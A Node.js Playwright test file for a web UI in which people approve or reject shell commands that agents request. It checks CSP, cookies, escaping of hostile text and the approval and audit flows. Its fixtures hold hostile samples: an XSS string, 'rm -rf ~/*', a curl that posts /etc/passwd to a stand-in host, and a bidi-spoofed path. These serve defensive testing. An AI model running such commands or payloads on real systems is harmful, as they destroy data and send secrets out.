#!/usr/bin/env node
/* SPDX-License-Identifier: Apache-2.0 */
/* ui.test.js - the node's web UI in a real browser (Debian's Chromium,
 * driven by playwright-core), against a real node started by
 * tests/node/run_ui.sh browser.
 *
 * What runs by default:
 *   - loading /ui/, a refused token, logging in, whoami in the top bar,
 *     the pending list (empty: the node has no approvals queue yet), the
 *     audit view, a reload keeping the session, logging out;
 *   - the session cookie is out of reach of script, and the page's CSP is
 *     enforced (an injected inline script is refused);
 *   - the approvals and audit views against the API contract of
 *     docs/api.md, with that API answered inside the browser (page.route),
 *     hostile text included: what is rendered and what the buttons send;
 *   - no CSP violation and no uncaught exception on the page throughout.
 * With UI_FULL_FLOW=1, approvalFlow() too: a real exec that waits for
 * approval, approved by clicking, then its audit record (needs the node's
 * approvals API, and UI_TOKEN must be an approver).
 *
 * Environment (set by run_ui.sh): UI_URL (http://127.0.0.1:PORT/), UI_TOKEN
 * (the token to log in with; "approver"), UI_AGENT_TOKEN (the tenant whose
 * exec asks for approval), UI_CHROMIUM, UI_PROFILE_DIR (a new, empty
 * directory), UI_FULL_FLOW, UI_SCREENSHOT_DIR (optional: PNGs of each
 * step), UI_FLOW_COMMAND (optional: the shell command that needs approval).
 * Prints "ok N - name" / "not ok N - name" lines and "N passed, N failed". */
'use strict';

const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const { chromium } = require('playwright-core');

const env = process.env;
const BASE = new URL(env.UI_URL || 'http://127.0.0.1:7080/');
const ORIGIN = BASE.origin;
const TOKEN = env.UI_TOKEN || '';
const AGENT_TOKEN = env.UI_AGENT_TOKEN || '';
const FULL_FLOW = env.UI_FULL_FLOW === '1';
const SHOTS = env.UI_SCREENSHOT_DIR || '';
const CSP = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self'; " +
  "form-action 'self'; frame-ancestors 'none'; base-uri 'none'";

// ---- a small harness ----------------------------------------------------------

class Failure extends Error {}

function check(cond, msg) {
  if (!cond) throw new Failure(msg);
}

async function waitFor(fn, what, timeoutMs = 10000, stepMs = 100) {
  const end = Date.now() + timeoutMs;
  let last;
  for (;;) {
    try {
      last = await fn();
      if (last) return last;
    } catch (e) {
      last = e;
    }
    if (Date.now() >= end) throw new Failure('timed out waiting for ' + what + (last instanceof Error ? ': ' + last.message : ''));
    await new Promise((r) => setTimeout(r, stepMs));
  }
}

async function shot(page, name) {
  if (!SHOTS) return;
  fs.mkdirSync(SHOTS, { recursive: true });
  await page.screenshot({ path: path.join(SHOTS, name + '.png'), fullPage: true });
}

const text = (page, sel) => page.locator(sel).first().textContent();
const visible = (page, sel) => page.locator(sel).first().isVisible();

// ---- what the page does behind our back ---------------------------------------

function watch(page) {
  const seen = { csp: [], errors: [], dialogs: [] };
  page.on('console', (msg) => {
    const t = msg.text();
    if (/Content Security Policy|Refused to (load|execute|apply|connect|frame)/i.test(t)) seen.csp.push(t);
  });
  page.on('pageerror', (err) => seen.errors.push(String(err)));
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  return seen;
}

// securitypolicyviolation events, recorded from the first script on
async function recordViolations(context) {
  await context.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(e.violatedDirective + ' ' + (e.blockedURI || '') + ' ' + (e.sample || ''));
    });
  });
}

async function violations(page) {
  return page.evaluate(() => window.__cspViolations || []);
}

async function login(page, token) {
  await page.locator('[data-testid=login-token]').fill(token);
  await page.locator('[data-testid=login-submit]').click();
}

async function session(page) {
  // the CSRF token, as the page itself gets it back (cookie-authenticated)
  return page.evaluate(async () => (await (await fetch('/v1/whoami', { cache: 'no-store' })).json()));
}

// ---- tests against the node as it is ------------------------------------------

async function tLoad(page) {
  const resp = await page.goto(BASE.href);
  check(resp && resp.status() === 200, 'GET / then /ui/: ' + (resp && resp.status()));
  check(new URL(page.url()).pathname === '/ui/', 'not redirected to /ui/: ' + page.url());
  const h = resp.headers();
  check(h['content-security-policy'] === CSP, 'CSP of /ui/: ' + h['content-security-policy']);
  check(h['x-frame-options'] === 'DENY' && h['x-content-type-options'] === 'nosniff', 'security headers: ' + JSON.stringify(h));
  await waitFor(() => visible(page, '[data-testid=view-login]'), 'the login view');
  check(!(await visible(page, '[data-testid=view-pending]')), 'pending view shown before login');
  check(await page.evaluate(() => typeof window.getComputedStyle(document.querySelector('.topbar')).display === 'string' &&
    getComputedStyle(document.querySelector('.topbar')).display === 'flex'), 'app.css is not applied');
  await shot(page, '01-login');
}

async function tBadToken(page) {
  await login(page, 'node_tok_' + 'x'.repeat(43));
  await waitFor(() => visible(page, '[data-testid=login-error]'), 'the login error');
  const t = await text(page, '[data-testid=login-error]');
  check(/unknown or revoked/i.test(t), 'login error text: ' + t);
  check(await visible(page, '[data-testid=view-login]'), 'left the login view on a bad token');
}

async function tLogin(page, ctx) {
  await login(page, TOKEN);
  await waitFor(() => visible(page, '[data-testid=view-pending]'), 'the pending view after login');
  check(await page.locator('[data-testid=login-token]').inputValue() === '', 'the token stays in the input after login');
  const who = await session(page);
  check(typeof who.tenant === 'string' && typeof who.csrf === 'string', 'whoami with the session: ' + JSON.stringify(who));
  ctx.who = who;
  await waitFor(async () => (await text(page, '[data-testid=whoami-tenant]')) === who.tenant, 'the tenant in the top bar');
  const role = await text(page, '[data-testid=whoami-role]');
  check(role === (who.approver ? 'approver' : 'not an approver'), 'role shown: ' + role + ' for ' + JSON.stringify(who));
}

async function tPendingEmpty(page) {
  await waitFor(async () => (await text(page, '[data-testid=pending-status]')) !== '', 'the pending status line');
  const n = await page.locator('[data-testid=pending-list] [data-approval-id]').count();
  check(n === 0, n + ' pending approvals on a node without any');
  const st = await page.locator('[data-testid=pending-status]').getAttribute('data-state');
  check(st === 'ok' || st === 'unavailable', 'pending status state ' + st + ': ' + (await text(page, '[data-testid=pending-status]')));
  check((await text(page, '[data-testid=pending-count]')) === '0', 'the pending count is not 0');
  await shot(page, '02-pending-empty');
}

async function tCookie(page) {
  check((await page.evaluate(() => document.cookie)) === '', 'document.cookie sees: ' + (await page.evaluate(() => document.cookie)));
  const cookies = await page.context().cookies(ORIGIN);
  const c = cookies.find((x) => x.name === 'airlock_session');
  check(c && c.httpOnly && c.sameSite === 'Strict' && c.path === '/', 'session cookie: ' + JSON.stringify(cookies));
}

async function tCspEnforced(page, ctx) {
  const ran = await page.evaluate(async () => {
    window.__inlineRan = false;
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 200));
    s.remove();
    return window.__inlineRan;
  });
  check(ran === false, 'an inline script ran despite the CSP');
  const v = await violations(page);
  check(v.some((x) => x.startsWith('script-src')), 'no violation reported for the injected script: ' + JSON.stringify(v));
  await waitFor(() => ctx.seen.csp.length > 0, 'the console message about the refused script', 2000);
  // these were provoked here: the final check is about the page's own
  await page.evaluate(() => { window.__cspViolations = []; });
  ctx.seen.csp.length = 0;
}

async function tAuditView(page) {
  await page.locator('[data-testid=nav-audit]').click();
  await waitFor(() => visible(page, '[data-testid=view-audit]'), 'the audit view');
  await waitFor(async () => !/^(Loading…)?$/.test(await text(page, '[data-testid=audit-status]')), 'the audit status');
  const st = await text(page, '[data-testid=audit-status]');
  check(/approvers only|no audit trail|record|No records/.test(st), 'audit status: ' + st);
  await shot(page, '03-audit');
  await page.locator('[data-testid=nav-pending]').click();
  await waitFor(() => visible(page, '[data-testid=view-pending]'), 'back to pending');
}

async function tReload(page, ctx) {
  await page.reload();
  await waitFor(() => visible(page, '[data-testid=view-pending]'), 'the pending view after a reload (session kept)');
  check((await text(page, '[data-testid=whoami-tenant]')) === ctx.who.tenant, 'whoami after reload');
}

async function tLogout(page) {
  await page.locator('[data-testid=logout]').click();
  await waitFor(() => visible(page, '[data-testid=view-login]'), 'the login view after logout');
  const r = await page.evaluate(async () => (await fetch('/v1/whoami')).status);
  check(r === 401, 'whoami after logout: ' + r);
  await page.reload();
  await waitFor(() => visible(page, '[data-testid=view-login]'), 'the login view after logout and reload');
}

// ---- the UI against the approvals API contract, answered in the browser --------

function approval(over) {
  const now = Date.now();
  return Object.assign({
    approval_id: 'ap_' + crypto.randomBytes(8).toString('hex'),
    state: 'pending',
    tenant: 'agent-mock',
    created_at_ms: now - 5000,
    expires_at_ms: now + 125000,
    argv: ['true'],
    cwd: '/workspace',
    env_keys: [],
    actions: ['system_command'],
    dangerous: [],
    rule: 'mock-rule',
    exe: '/usr/bin/true',
    exe_sha256: 'ab'.repeat(32),
    always: false,
  }, over);
}

async function tMockedApprovals(page, ctx) {
  await login(page, TOKEN);
  await waitFor(() => visible(page, '[data-testid=view-pending]'), 'the pending view');
  const who = await session(page);
  const hostile = approval({
    tenant: 'agent-x',
    sandbox: 'sb_00000000000000aa',
    argv: ['sh', '-c', 'echo <img src=x onerror=alert(1)> && rm -rf ~/*', "it's"],
    cwd: '/workspace/\u202Egnp.exe',
    env_keys: ['PATH', 'AWS_SECRET_ACCESS_KEY'],
    actions: ['file_delete', 'code_exec'],
    dangerous: [
      { id: 'rm-recursive-home', description: 'Recursive delete of a home directory', severity: 'critical' },
      { id: 'mock-high', description: '<b>not bold</b>', severity: 'high' },
    ],
    rule: 'dangerous:rm-recursive-home',
    exe: '/usr/bin/sh',
  });
  const script = approval({
    tenant: 'agent-y',
    argv: ['/bin/sh', '-c', 'python3 run.py'],
    command: 'python3 run.py\n# \u200bhidden',
    actions: ['code_exec'],
    exe: '/usr/bin/python3',
    script: 'import os\nprint("<script>alert(2)</script>")\n',
    script_sha256: 'cd'.repeat(32),
  });
  const rejectMe = approval({ tenant: 'agent-z', argv: ['curl', '-d', '@/etc/passwd', 'http://x.test'], actions: ['http_post'] });
  const conflict = approval({ tenant: 'agent-z', argv: ['git', 'push', '--force'] });
  const own = approval({ tenant: who.tenant, argv: ['rm', '-rf', '/workspace'] });
  const soon = approval({ tenant: 'agent-z', argv: ['sleep', '1'], expires_at_ms: Date.now() + 1500 });
  let pending = [hostile, script, rejectMe, conflict, own, soon];
  const posts = [];
  const odd = []; // what a route handler found wrong (it must still answer)

  await page.route((u) => u.pathname === '/v1/whoami', async (route) => {
    const real = await route.fetch();
    const body = await real.json();
    await route.fulfill({ response: real, json: Object.assign(body, { approver: true }) });
  });
  await page.route((u) => u.pathname.startsWith('/v1/approvals'), async (route) => {
    const req = route.request();
    const u = new URL(req.url());
    if (req.method() === 'GET' && u.pathname === '/v1/approvals') {
      if (u.searchParams.get('state') !== 'pending') odd.push('the list is asked with ' + u.search);
      return route.fulfill({ json: { approvals: pending } });
    }
    const m = u.pathname.match(/^\/v1\/approvals\/([^/]+)\/(approve|reject)$/);
    if (req.method() === 'POST' && m) {
      posts.push({ id: m[1], verb: m[2], body: req.postDataJSON(), headers: req.headers() });
      if (m[1] === conflict.approval_id) {
        return route.fulfill({ status: 409, json: { error: { code: 'conflict', message: 'approval already answered' } } });
      }
      const a = pending.find((x) => x.approval_id === m[1]);
      pending = pending.filter((x) => x.approval_id !== m[1]);
      return route.fulfill({ json: Object.assign({}, a, { state: m[2] === 'approve' ? 'approved' : 'rejected', answered_by: who.tenant }) });
    }
    odd.push('unexpected ' + req.method() + ' ' + u.pathname);
    return route.fulfill({ status: 404, json: { error: { code: 'not_found', message: 'no such route' } } });
  });
  // the page learns it is an approver at login: log in again under the mocks
  await page.reload();
  await waitFor(async () => (await text(page, '[data-testid=whoami-role]')) === 'approver', 'the approver badge');
  const item = (a) => page.locator('[data-approval-id="' + a.approval_id + '"]');
  await waitFor(async () => (await page.locator('[data-testid=pending-list] [data-approval-id]').count()) === 6, 'six pending items');
  check((await text(page, '[data-testid=pending-count]')) === '6', 'pending count');
  check(/^\(6\) /.test(await page.title()), 'title: ' + (await page.title()));
  await shot(page, '04-mocked-pending');

  // hostile text is text
  const h = item(hostile);
  const cmd = await h.locator('[data-testid=command]').textContent();
  check(cmd === "sh -c 'echo <img src=x onerror=alert(1)> && rm -rf ~/*' 'it'\\''s'", 'command shown as ' + JSON.stringify(cmd));
  check((await page.locator('[data-testid=pending-list] img, [data-testid=pending-list] b, [data-testid=pending-list] script').count()) === 0,
    'markup from the data became elements');
  check((await h.locator('[data-testid=approval-cwd] .esc').textContent()) === '\\u202E', 'the bidi override is not shown as an escape');
  check(await h.locator('[data-testid=hidden-warning]').isVisible(), 'no warning about hidden characters');
  check((await h.locator('[data-testid=approval-tenant]').textContent()) === 'agent-x', 'tenant');
  check((await h.locator('[data-testid=approval-sandbox]').textContent()) === 'sandbox sb_00000000000000aa', 'sandbox');
  check((await h.locator('[data-testid=approval-rule]').textContent()) === 'dangerous:rm-recursive-home', 'rule');
  check((await h.locator('[data-testid=approval-env] .chip').allTextContents()).join(' ') === 'PATH AWS_SECRET_ACCESS_KEY', 'env keys');
  check((await h.locator('[data-testid=approval-actions] .chip').allTextContents()).join(' ') === 'file_delete code_exec', 'actions');
  const sev = await h.locator('[data-testid=approval-dangerous] li').allTextContents();
  check(sev.length === 2 && /^critical\s*rm-recursive-home/.test(sev[0]) && sev[1].includes('<b>not bold</b>'), 'dangerous: ' + JSON.stringify(sev));
  check((await h.locator('.sev-critical').count()) === 1 && (await h.locator('.sev-high').count()) === 1, 'severity classes');
  const exe = await h.locator('[data-testid=approval-exe]').textContent();
  check(exe.includes('/usr/bin/sh') && exe.includes('sha256 abababababababab'), 'exe: ' + exe);
  check(/^2:0\d left$/.test(await h.locator('[data-testid=countdown]').textContent()), 'countdown: ' + (await h.locator('[data-testid=countdown]').textContent()));
  check(!(await h.locator('[data-testid=approval-script]').isVisible()), 'script box shown without a script');

  const s = item(script);
  check((await s.locator('[data-field=command-label]').textContent()) === 'Shell command (sh -c)', 'shell string label');
  const scmd = await s.locator('[data-testid=command]').textContent();
  check(scmd === 'python3 run.py\n# \\u200Bhidden', 'shell string shown as ' + JSON.stringify(scmd));
  check(await s.locator('[data-testid=approval-script]').isVisible(), 'script box hidden');
  check((await s.locator('[data-field=script-hash]').textContent()).startsWith('sha256 cdcdcdcdcdcdcdcd'), 'script hash');
  check((await s.locator('pre.script').textContent()).includes('<script>alert(2)</script>'), 'script text');

  const o = item(own);
  check(await o.locator('[data-testid=approve]').isDisabled(), 'own tenant\'s request can be approved');
  check(/own tenant/.test(await o.locator('[data-testid=approval-note]').textContent()), 'no note on an own request');

  // expiry
  await waitFor(async () => (await item(soon).locator('[data-testid=countdown]').textContent()) === 'expired', 'the countdown to reach expired', 5000);
  check(await item(soon).locator('[data-testid=approve]').isDisabled(), 'an expired request can be approved');

  // approve
  await h.locator('[data-testid=approve]').click();
  await waitFor(async () => (await h.count()) === 0, 'the approved item to go');
  let p = posts.shift();
  check(p && p.id === hostile.approval_id && p.verb === 'approve' && JSON.stringify(p.body) === '{"always":false}',
    'approve sent ' + JSON.stringify(p && p.body));
  check(p.headers['x-csrf-token'] === who.csrf, 'approve without the session\'s CSRF token');
  check(p.headers['content-type'] === 'application/json', 'approve content type ' + p.headers['content-type']);

  // approve always needs a confirmation
  await s.locator('[data-testid=approve-always]').click();
  check(await s.locator('[data-testid=always-confirm-box]').isVisible(), 'no confirmation for approve always');
  check(posts.length === 0, 'approve always sent before the confirmation');
  await s.locator('[data-testid=always-cancel]').click();
  check(!(await s.locator('[data-testid=always-confirm-box]').isVisible()), 'cancel left the confirmation');
  await s.locator('[data-testid=approve-always]').click();
  await shot(page, '05-approve-always-confirm');
  await s.locator('[data-testid=always-confirm]').click();
  await waitFor(async () => (await s.count()) === 0, 'the always-approved item to go');
  p = posts.shift();
  check(p && p.verb === 'approve' && JSON.stringify(p.body) === '{"always":true}', 'approve always sent ' + JSON.stringify(p && p.body));

  // reject with a reason
  const r = item(rejectMe);
  await r.locator('[data-testid=reject-reason]').fill('not <today>');
  await r.locator('[data-testid=reject]').click();
  await waitFor(async () => (await r.count()) === 0, 'the rejected item to go');
  p = posts.shift();
  check(p && p.verb === 'reject' && JSON.stringify(p.body) === '{"reason":"not <today>"}', 'reject sent ' + JSON.stringify(p && p.body));

  // already answered elsewhere
  const c = item(conflict);
  await c.locator('[data-testid=approve]').click();
  await waitFor(() => c.locator('[data-testid=approval-error]').isVisible(), 'the conflict error');
  check(/Already answered/.test(await c.locator('[data-testid=approval-error]').textContent()), 'conflict message');
  posts.shift();
  check(posts.length === 0, 'unexpected requests: ' + JSON.stringify(posts));
  await shot(page, '06-after-answers');

  check(odd.length === 0, odd.join('; '));
  await page.unrouteAll({ behavior: 'ignoreErrors' });
}

async function tMockedAudit(page) {
  const asked = [];
  const records = [
    { seq: 7, ts_ms: Date.now() - 1000, kind: 'exec', tenant: 'agent-x', sandbox: 'sb_00000000000000aa', exec_id: 'ex_00000000000000bb',
      approval_id: 'ap_00000000000000cc', actions: ['file_delete'], dangerous: [{ id: 'rm-recursive-home', severity: 'critical' }],
      decision: 'approved', rule: 'dangerous:rm-recursive-home', approver: 'approver', argv: ['sh', '-c', 'rm -rf ~/* <i>x</i>'],
      cwd: '/workspace', env_keys: ['A'], exit_code: 0, duration_ms: 12, output_bytes: 3 },
    { seq: 6, ts_ms: Date.now() - 2000, kind: 'decision', tenant: 'agent-z', decision: 'rejected', argv: ['git', 'push'], actions: ['http_post'] },
  ];
  await page.route((u) => u.pathname === '/v1/audit', async (route) => {
    asked.push(new URL(route.request().url()));
    await route.fulfill({ json: { records } });
  });
  await page.locator('[data-testid=nav-audit]').click();
  await waitFor(async () => (await page.locator('[data-testid=audit-rows] tr').count()) === 2, 'two audit rows');
  const f = (id) => page.locator('[data-testid=' + id + ']');
  await f('audit-tenant').fill('agent-x');
  await f('audit-action').fill('file_delete');
  await f('audit-decision').fill('approved');
  await f('audit-q').fill('rm -rf');
  await f('audit-since').fill('2026-01-02T03:04:05');
  await f('audit-until').fill('2026-01-03T03:04:05');
  await f('audit-search').click();
  await waitFor(() => asked.length >= 2, 'the filtered audit request');
  // the route saw the request before the page rendered its answer
  await waitFor(async () => /2 records/.test(await text(page, '[data-testid=audit-status]')), 'the filtered answer rendered');
  const q = asked[asked.length - 1].searchParams;
  check(q.get('tenant') === 'agent-x' && q.get('action') === 'file_delete' && q.get('decision') === 'approved' &&
    q.get('q') === 'rm -rf' && q.get('limit') === '200', 'audit query: ' + asked[asked.length - 1].search);
  check(q.get('since_ms') === String(new Date('2026-01-02T03:04:05').getTime()) &&
    q.get('until_ms') === String(new Date('2026-01-03T03:04:05').getTime()), 'audit time range: ' + asked[asked.length - 1].search);
  const row = page.locator('[data-testid=audit-rows] tr[data-seq="7"]');
  check((await row.getAttribute('data-approval-id')) === 'ap_00000000000000cc', 'row approval id');
  check((await row.locator('[data-testid=audit-command]').textContent()) === "sh -c 'rm -rf ~/* <i>x</i>'", 'audit command');
  check((await page.locator('[data-testid=audit-rows] i').count()) === 0, 'markup from an audit record became an element');
  await shot(page, '07-mocked-audit');
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.locator('[data-testid=nav-pending]').click();
}

// ---- the whole approval flow (needs the node's approvals API) ------------------

/* An agent's exec needs approval; a person approves it in the UI; the exec
 * runs and its audit record appears.  The page logs in with
 * opts.approverToken (unless already logged in), whose tenant must be an
 * approver; the exec is opts.agentToken's, another tenant's.  opts.command
 * is a shell command that the policy sends for approval (MARKER is replaced
 * by a unique word it must echo); opts.origin is the node's.
 * Written against docs/api.md: POST /v1/exec waits while its approval is
 * pending (an answer that comes back with an exec id but not finished yet is
 * followed through GET /v1/execs/{id}). */
async function approvalFlow(page, opts) {
  const marker = 'ui-flow-' + crypto.randomBytes(6).toString('hex');
  const command = (opts.command || 'rm -rf ~/*; echo MARKER').replace(/MARKER/g, marker);
  if (await visible(page, '[data-testid=view-login]')) {
    await login(page, opts.approverToken);
    await waitFor(() => visible(page, '[data-testid=view-pending]'), 'the pending view after login');
  }
  const who = await session(page);
  check(who.approver === true, 'the logged-in tenant ' + who.tenant + ' is not an approver (AIRLOCK_UI_NODE_CONFIG)');

  // 1. the agent asks; its request stays open while the approval is pending
  const api = (method, p, body, token) => fetch(opts.origin + p, {
    method,
    headers: Object.assign({ Authorization: 'Bearer ' + token }, body ? { 'Content-Type': 'application/json' } : {}),
    body: body ? JSON.stringify(body) : undefined,
  }).then(async (r) => ({ status: r.status, json: await r.json().catch(() => null) }));
  let settled = false;
  const execDone = api('POST', '/v1/exec', { command, timeout_ms: 60000 }, opts.agentToken).then((r) => {
    settled = true;
    return r;
  });

  // 2. it shows up in the UI with its context
  await page.locator('[data-testid=nav-pending]').click();
  const item = page.locator('[data-testid=pending-list] [data-approval-id]', { hasText: marker });
  await waitFor(async () => (await item.count()) === 1, 'the agent\'s request in the pending list', 30000, 200);
  const id = await item.getAttribute('data-approval-id');
  check(/^ap_/.test(id), 'approval id ' + id);
  check((await item.locator('[data-testid=approval-tenant]').textContent()) !== who.tenant, 'the request is the approver\'s own');
  check((await item.locator('[data-testid=command]').textContent()).includes(marker), 'command not shown');
  check((await item.locator('[data-testid=approval-rule]').textContent()) !== '', 'no rule shown');
  check((await item.locator('[data-testid=approval-dangerous] li').count()) >= 1, 'no dangerous pattern shown');
  check(/^\d+:\d\d(:\d\d)? left$/.test(await item.locator('[data-testid=countdown]').textContent()), 'countdown: ' +
    (await item.locator('[data-testid=countdown]').textContent()));
  await shot(page, '10-flow-pending');
  check(!settled, 'the exec finished before it was approved');

  // 3. approve
  await item.locator('[data-testid=approve]').click();
  await waitFor(async () => (await item.count()) === 0, 'the approved request to leave the list', 10000);

  // 4. the exec runs
  let res = await Promise.race([execDone, new Promise((r) => setTimeout(() => r(null), 60000))]);
  check(res, 'the exec did not finish within 60 s of the approval');
  if (res.status === 200 && res.json && res.json.exec_id && res.json.state && res.json.state !== 'exited') {
    const execId = res.json.exec_id;
    res = await waitFor(async () => {
      const r = await api('GET', '/v1/execs/' + execId, null, opts.agentToken);
      return r.json && r.json.state === 'exited' ? r : null;
    }, 'exec ' + execId + ' to end', 60000, 250);
  }
  check(res.status === 200 && res.json && res.json.exit_code === 0 && String(res.json.stdout || '').includes(marker),
    'the approved exec: ' + JSON.stringify(res));
  const a = await page.evaluate(async (p) => (await fetch(p)).json(), '/v1/approvals/' + id);
  check((a.state === 'approved' || a.state === 'used') && a.answered_by === who.tenant, 'the approval afterwards: ' + JSON.stringify(a));

  // 5. its audit record
  await page.locator('[data-testid=nav-audit]').click();
  await page.locator('[data-testid=audit-clear]').click(); // filters an earlier search left behind
  await page.locator('[data-testid=audit-q]').fill(marker);
  const row = page.locator('[data-testid=audit-rows] tr[data-approval-id="' + id + '"]');
  await waitFor(async () => {
    await page.locator('[data-testid=audit-search]').click();
    await page.waitForTimeout(300);
    return (await row.count()) >= 1;
  }, 'the audit record of ' + id, 20000, 500);
  check((await row.first().locator('[data-testid=audit-command]').textContent()).includes(marker), 'audit command');
  await shot(page, '11-flow-audit');
}

// ---- main -------------------------------------------------------------------------

async function main() {
  const results = { passed: 0, failed: 0 };
  const profile = env.UI_PROFILE_DIR || fs.mkdtempSync('/tmp/airlock-ui-profile-');
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: env.UI_CHROMIUM || '/usr/bin/chromium',
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    viewport: { width: 1280, height: 900 },
  });
  await recordViolations(context);
  const page = context.pages()[0] || (await context.newPage());
  const seen = watch(page);
  const ctx = { seen };
  const tests = [
    ['/ redirects to /ui/, which loads with its CSP and styles', tLoad],
    ['a bad token is refused on the login form', tBadToken],
    ['login with a token shows whoami', tLogin],
    ['the pending list renders, empty', tPendingEmpty],
    ['the session cookie is HttpOnly and SameSite=Strict: script cannot read it', tCookie],
    ['the CSP is enforced: an injected inline script does not run', tCspEnforced],
    ['the audit view loads', tAuditView],
    ['a reload keeps the session', tReload],
    ['logout ends the session', tLogout],
    ['approvals against the API contract (answered in the browser): context, hostile text, countdown, buttons', tMockedApprovals],
    ['audit against the API contract (answered in the browser): filters and rows', tMockedAudit],
  ];
  if (FULL_FLOW) {
    tests.push(['full flow: a pending exec approved in the UI runs, and its audit record appears',
      (p) => approvalFlow(p, { origin: ORIGIN, approverToken: TOKEN, agentToken: AGENT_TOKEN, command: env.UI_FLOW_COMMAND })]);
  }
  tests.push(['no CSP violation, uncaught exception or dialog on the page', async (p) => {
    const v = await violations(p);
    check(v.length === 0 && seen.csp.length === 0, 'CSP violations: ' + JSON.stringify(v.concat(seen.csp)));
    check(seen.errors.length === 0, 'uncaught: ' + JSON.stringify(seen.errors));
    check(seen.dialogs.length === 0, 'dialogs: ' + JSON.stringify(seen.dialogs));
  }]);
  let n = 0;
  for (const [name, fn] of tests) {
    n++;
    const t0 = Date.now();
    try {
      await fn(page, ctx);
      results.passed++;
      console.log('ok ' + n + ' - ' + name + ' (' + ((Date.now() - t0) / 1000).toFixed(1) + 's)');
    } catch (e) {
      results.failed++;
      console.log('not ok ' + n + ' - ' + name + ' (' + ((Date.now() - t0) / 1000).toFixed(1) + 's)');
      for (const line of String(e instanceof Failure ? e.message : e.stack).split('\n')) console.log('#   ' + line);
      await shot(page, 'fail-' + n).catch(() => {});
    } finally {
      // a failed test must not leave its mocked API to the next one
      await page.unrouteAll({ behavior: 'ignoreErrors' }).catch(() => {});
    }
  }
  if (!FULL_FLOW) console.log('# the full approval flow was not run (UI_FULL_FLOW=1 runs it)');
  await context.close();
  console.log(results.passed + ' passed, ' + results.failed + ' failed');
  return results.failed ? 1 : 0;
}

main().then((rc) => process.exit(rc), (e) => {
  console.log('not ok - the browser test could not run');
  for (const line of String(e.stack || e).split('\n')) console.log('#   ' + line);
  console.log('0 passed, 1 failed');
  process.exit(1);
});
